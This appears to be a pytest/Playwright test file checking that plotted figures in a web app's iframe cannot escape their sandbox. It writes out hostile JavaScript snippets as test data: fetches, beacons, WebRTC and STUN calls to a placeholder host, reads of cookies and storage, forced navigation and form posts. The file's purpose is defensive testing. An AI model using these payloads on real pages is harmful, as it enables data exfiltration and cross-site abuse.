"""Figures that move, in their frame: drawn, alone with their scripts, and cut off from us and from the network."""

import contextlib
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from browser_room import PATIENCE_MS, serving
from playwright.sync_api import Browser, FrameLocator, Page, expect
from process_tree import Tree, wait_until

TASKS = Path(__file__).with_name("figure_tasks.py")
# What a hostile document would try; HTTP and STUN lead to sockets of this test, RERUN to a form of ours.
NETWORK = {
    "fetch": "fetch(HTTP).catch(() => 0)",
    "request": "const r = new XMLHttpRequest(); r.open('GET', HTTP); r.send()",
    "beacon": "navigator.sendBeacon(HTTP, 'x')",
    "image": "new Image().src = HTTP",
    "script": "const s = document.createElement('script'); s.src = HTTP; document.head.append(s)",
    "import": "import(HTTP).catch(() => 0)",
    "style": "document.head.insertAdjacentHTML('beforeend', `<style>@import url(${HTTP});</style>`)",
    "link": "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href=${HTTP}>`)",
    "media": "document.body.insertAdjacentHTML('beforeend', `<video src=${HTTP}></video>`)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`])))",
}
OURS = {
    "pages": "fetch('/jobs', {credentials: 'include'}).then(r => r.text()).then(say).catch(() => 0)",
    "actions": "fetch(RERUN, {method: 'POST', mode: 'no-cors', credentials: 'include'}).catch(() => 0)",
    "cookies": "say(`read ${document.cookie}`)",
    "storage": "say(`read ${localStorage.length}`)",
    "parent": "say(`read ${parent.document.title}`)",
}
LEAVING = {
    "location": "location = HTTP",
    "top": "top.location = HTTP",
    "window": "window.open(HTTP)",
    "form": "const f = document.createElement('form'); f.action = HTTP; document.body.append(f); f.submit()",
    "our form": "const f = document.createElement('form'); f.action = RERUN; f.method = 'POST';"
    " document.body.append(f); f.submit()",
    "frame": "document.body.insertAdjacentHTML('beforeend', `<iframe src=${HTTP}></iframe>`)",
}
PEER = "const p = new RTCPeerConnection({iceServers: [{urls: STUN}]}); p.createDataChannel('x');"
PEER += " p.createOffer().then(offer => p.setLocalDescription(offer))"
# Of no script at all.
NOTHING = "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="


@dataclass
class Elsewhere:
    """Sockets that are not ours, and who came to them."""

    http: socket.socket
    stun: socket.socket
    heard: list[bytes] = field(default_factory=list)

    def listen(self) -> None:
        threading.Thread(target=self._listen, args=(self.http.accept, self._read), daemon=True).start()
        threading.Thread(target=self._listen, args=(lambda: self.stun.recvfrom(100), bytes), daemon=True).start()

    def _listen(self, wait: Callable[[], Any], read: Callable[[Any], bytes]) -> None:
        with contextlib.suppress(OSError):  # closed at the end of the test
            while True:
                self.heard.append(read(wait()[0]))

    @staticmethod
    def _read(connection: socket.socket) -> bytes:
        with connection:
            connection.settimeout(1)
            try:
                return b"connected " + connection.recv(100)
            except TimeoutError:
                return b"connected "


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with socket.create_server(("127.0.0.1", 0)) as http, socket.socket(type=socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        found = Elsewhere(http, stun)
        found.listen()
        yield found


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> Iterator[Tree]:
    """The program with the tasks of figure_tasks.py."""
    with serving(tmp_path_factory.mktemp("site"), TASKS) as tree:
        yield tree


@pytest.fixture
def visitor(browser: Browser, site: Tree) -> Iterator[Page]:
    """A visitor whose browser is allowed to complain: it says what it blocks."""
    context = browser.new_context(base_url=site.url)
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    # Before any script of the page, which is under our own policy.
    page.add_init_script(
        "if (window === top) { window.heard = []; addEventListener('message', e => heard.push(e.data)) }"
    )
    yield page
    context.close()


def run(page: Page, task: str) -> FrameLocator:
    """Start a task and wait for the figure on its page."""
    page.goto(f"/tasks/{task}")
    page.get_by_role("button", name="Run", exact=True).click()
    page.wait_for_url("**/jobs/*")
    page.locator("iframe").scroll_into_view_if_needed()
    return page.frame_locator("iframe")


def test_a_plotly_figure_is_drawn_without_a_complaint(page: Page) -> None:
    frame = run(page, "plotly_line")

    expect(frame.locator(".scatterlayer path.js-line")).to_be_visible()


def test_a_bokeh_figure_is_drawn_without_a_complaint(page: Page) -> None:
    frame = run(page, "bokeh_line")

    expect(frame.locator("canvas").first).to_be_visible()


def test_a_map_from_the_web_says_that_nothing_from_there_is_loaded(visitor: Page) -> None:
    frame = run(visitor, "plotly_map")

    expect(frame.locator("#words")).to_contain_text("nothing from there is loaded here")


@dataclass
class HostileFigure:
    """A job whose figure was replaced by documents that nobody would want, and its page."""

    site: Tree
    page: Page
    elsewhere: Elsewhere

    def show(self, *attacks: str, script_hash: str) -> None:
        """Put the document where the figure is, as nothing but the store itself could, and open its page."""
        slug = self.page.url.rpartition("/")[2]
        (file,) = self.site.instance.glob(f"jobs/*/{slug}/result-*.html")
        file.write_text(document(self.elsewhere, f"{self.page.url}/rerun", *attacks))
        self.site.change(
            "UPDATE asyncinweb_jobs SET result = json_set(result, '$.script_hashes', json_array(:hash))"
            " WHERE slug = :slug",
            hash=script_hash,
            slug=slug,
        )
        self.page.reload()
        self.page.locator("iframe").scroll_into_view_if_needed()

    def has_tried(self) -> bool:
        return "tried" in self.page.evaluate("heard")

    @property
    def jobs(self) -> int:
        return len(self.site.rows("SELECT id FROM asyncinweb_jobs"))


def document(elsewhere: Elsewhere, rerun: str, *attacks: str) -> str:
    """A document that makes these attacks one after the other, and says so a moment later."""
    places = {
        "HTTP": f"http://127.0.0.1:{elsewhere.http.getsockname()[1]}/x",
        "STUN": f"stun:127.0.0.1:{elsewhere.stun.getsockname()[1]}",
        "RERUN": rerun,
    }
    known = "".join(f"var {name} = '{place}';" for name, place in places.items())
    tries = "".join(f"try {{ {attack} }} catch (error) {{}}" for attack in attacks)
    say = "var say = words => parent.postMessage(words, '*'); say('ran');"
    # Until then whatever is not stopped has reached a socket on this computer.
    return f"<!doctype html><body><script>{known}{say}{tries} setTimeout(() => say('tried'), 500)</script>"


@pytest.fixture
def hostile(visitor: Page, site: Tree, elsewhere: Elsewhere) -> HostileFigure:
    run(visitor, "plotly_line")
    return HostileFigure(site, visitor, elsewhere)


def test_each_attack_on_the_network_works_where_nothing_stops_it(visitor: Page, elsewhere: Elsewhere) -> None:
    for attack in (NETWORK["fetch"], NETWORK["image"], NETWORK["style"], PEER, LEAVING["frame"]):
        elsewhere.heard.clear()
        visitor.set_content(document(elsewhere, "", attack))
        wait_until(lambda: elsewhere.heard, what=attack)


def test_a_script_that_did_not_come_with_the_figure_does_not_run(hostile: HostileFigure) -> None:
    with hostile.page.expect_console_message(lambda message: "script-src" in message.text):
        hostile.show(*NETWORK.values(), *OURS.values(), PEER, *LEAVING.values(), script_hash=NOTHING)

    assert hostile.page.evaluate("heard") == []
    assert hostile.elsewhere.heard == []


def test_a_hostile_script_reaches_neither_our_pages_nor_cookies_nor_the_network(hostile: HostileFigure) -> None:
    jobs_before = hostile.jobs

    hostile.show(*NETWORK.values(), *OURS.values(), script_hash="unsafe-inline")
    wait_until(hostile.has_tried, what="the hostile script to end")

    assert hostile.page.evaluate("heard") == ["ran", "tried"]
    assert hostile.elsewhere.heard == []
    assert hostile.jobs == jobs_before


@pytest.mark.parametrize("attack", LEAVING.values(), ids=LEAVING)
def test_a_hostile_document_leads_nobody_away_and_sends_nothing_on_leaving(
    hostile: HostileFigure, attack: str
) -> None:
    address, jobs_before = hostile.page.url, hostile.jobs

    hostile.show(attack, script_hash="unsafe-inline")
    wait_until(lambda: "ran" in hostile.page.evaluate("heard"), what="the hostile script to run")
    hostile.page.wait_for_load_state("networkidle")

    assert hostile.page.url == address
    assert len(hostile.page.context.pages) == 1
    assert hostile.jobs == jobs_before
    # Chromium opens a connection before it asks the policy, and sends nothing over it.
    assert set(hostile.elsewhere.heard) <= {b"connected "}
